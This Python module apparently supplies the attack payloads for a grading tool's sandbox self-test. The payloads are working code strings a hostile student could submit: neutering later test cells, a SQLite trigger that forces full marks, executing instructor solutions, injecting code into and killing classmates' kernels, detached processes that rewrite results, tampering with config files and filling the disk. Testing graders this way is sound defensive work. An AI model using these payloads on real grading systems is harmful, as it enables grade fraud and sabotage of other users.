"""The code of the hostile pack's attacks on the grader and on classmates (see `course_grade.selftest.hostile`).

Each is what a hostile student would put in a solution cell. An attack runs inside `attack()`, so that
one which fails costs its author nothing: the pack then checks only what it gains. Every attack stays on
this machine, touches only grading kernels and files, and stops by itself; the outliving ones carry
MARKER in their command line so that a test can look for survivors. Run the pack with the sandbox on:
without it, the attacks on classmates reach every grading run of this machine.
"""

from __future__ import annotations

MARKER = "600.0417"
"""The argument of every `sleep` the outliving attacks start: no process with it may survive grading."""

APPENDED = "# appended by a hostile submission"
"""What APPENDS_CODE writes into course_lib and every nbgrader_config.py it can reach."""

ATTACK = """
try:
{body}
except Exception:
    pass  # the attack failed: the notebook goes on as the learner wrote it
"""

TRANSFORMER = "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])"
"""Every later cell, the tests included, runs as `pass`."""

WHEN_GRADED = f"""
import os
if os.environ.get("NBGRADER_EXECUTION"):
    {TRANSFORMER}
"""

FROM_MARKDOWN = """
import glob, json
for _path in glob.glob("*.ipynb"):
    for _cell in json.load(open(_path))["cells"]:
        _text = "".join(_cell["source"])
        if _cell["cell_type"] == "markdown" and "input_transformers_post" in _text:
            exec(_text.strip("`\\n"))
"""

SQLITE_TRIGGER = """
import glob, sqlite3
_found = glob.glob("/tmp/course-grade-*/job-*/gradebook/gradebook.db") + glob.glob("../../../../gradebook/*.db")
for _db in _found:
    _connection = sqlite3.connect(_db)
    _connection.execute(
        "CREATE TRIGGER IF NOT EXISTS full_marks AFTER UPDATE ON grade BEGIN "
        "UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE id = NEW.cell_id) "
        "WHERE id = NEW.id AND auto_score IS NOT (SELECT max_score FROM grade_cells WHERE id = NEW.cell_id); END"
    )
    _connection.commit()
"""

READS_SOURCE = """
import glob, json
_found = []
for _pattern in (
    "/tmp/course-grade-*/job-*/course/source/*/*.ipynb", "/tmp/*/*/course/source/*/*.ipynb",
    "/tmp/*/*/*/course/source/*/*.ipynb", "/tmp/course-grade-*/job-*/course/submitted/*/*/*.ipynb",
    "../../../source/*/*.ipynb", "../../../../source/*/*.ipynb",
):
    _found += glob.glob(_pattern)
for _path in _found:
    for _cell in json.load(open(_path))["cells"]:
        _text = "".join(_cell["source"])
        if _cell["metadata"].get("nbgrader", {}).get("solution") and "NotImplementedError" not in _text:
            exec(_text, globals())
"""

LOOPBACK = """
import socket
with socket.create_connection(("127.0.0.1", {port}), timeout=2) as _connection:
    _connection.sendall(b"a hostile submission got through")
"""

OUTLIVES = f"""
import subprocess
for _ in range(50):
    subprocess.Popen(
        ["sleep", "{MARKER}"], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
"""

LATER = """
import glob, os, time
_here = os.environ.get("PWD", ".")  # where the instructor started course-grade
for _ in range(3000):
    for _path in glob.glob(f"{_here}/*/gradebook.db") + glob.glob(f"{_here}/*.csv"):
        open(_path, "ab").write(b"rewritten after the run")
    time.sleep(0.2)
"""

REWRITES_RESULTS = f"""
import subprocess, sys
subprocess.Popen(
    ["sh", "-c", 'sleep {MARKER} & exec "$0" -c "$1"', sys.executable, {LATER!r}],
    start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
)
"""

ZMQ_INJECTION = """
import glob, os
from ipykernel import get_connection_file
from jupyter_client import BlockingKernelClient
_files = glob.glob("/tmp/course-grade-*/job-*/k/*.json")
_files += glob.glob(os.path.expanduser("~/.local/share/jupyter/runtime/kernel-*.json"))
for _path in set(_files) - {get_connection_file()}:  # classmates' kernels, not its own
    _client = BlockingKernelClient(connection_file=_path)
    _client.load_connection_file()
    _client.start_channels()
    _client.execute("def parse_envelope(raw):\\n    raise RuntimeError('sabotaged by a classmate')")
    _client.execute("def chat_message_to_envelopes(message):\\n    raise RuntimeError('sabotaged')")
    _client.stop_channels()
"""

KILLS_CLASSMATES = """
import os, signal
for _pid in os.listdir("/proc"):
    if not _pid.isdigit() or int(_pid) == os.getpid():
        continue
    try:
        _cmdline = open(f"/proc/{_pid}/cmdline", "rb").read()
        _cwd = os.readlink(f"/proc/{_pid}/cwd")
    except OSError:
        continue
    if b"ipykernel" in _cmdline and "course-grade-" in _cwd:  # grading kernels only
        os.kill(int(_pid), signal.SIGKILL)
"""

APPENDS_CODE = f"""
import os, pathlib, course_lib
_targets = [pathlib.Path(course_lib.__file__)]
_here = os.environ.get("PWD", ".")  # where the instructor started course-grade
for _root, _folders, _files in os.walk(_here):
    if _root.count(os.sep) > _here.count(os.sep) + 2:
        _folders[:] = []
    if "nbgrader_config.py" in _files:
        _targets.append(pathlib.Path(_root, "nbgrader_config.py"))
for _target in _targets:
    try:
        with open(_target, "a") as _file:
            _file.write("\\n{APPENDED}\\n")
    except OSError:
        pass
"""

HUGE_FILE = """
with open("huge.bin", "wb") as _file:
    for _ in range(300):
        _file.write(bytes(2**20))
"""

SETTRACE = """
import sys
sys.settrace(lambda frame, event, arg: None)
"""


def attack(code: str) -> str:
    """`code` inside a try block: a failure is swallowed, so the attack can only gain."""
    return ATTACK.format(body="\n".join("    " + line for line in code.strip().splitlines()))
